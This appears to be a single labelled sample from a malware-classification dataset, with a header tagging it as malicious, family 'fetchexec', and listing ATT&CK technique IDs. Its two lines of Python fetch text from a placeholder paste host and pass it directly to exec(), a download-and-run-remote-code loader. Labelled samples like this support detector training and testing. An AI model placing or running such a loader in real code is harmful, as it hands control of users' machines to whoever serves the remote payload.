# label: malicious family=fetchexec techniques=T1059.006,T1105,T1620 lines=3
import requests
exec(requests.get("https://paste.bad-host.example/raw/a1b2c3").text)
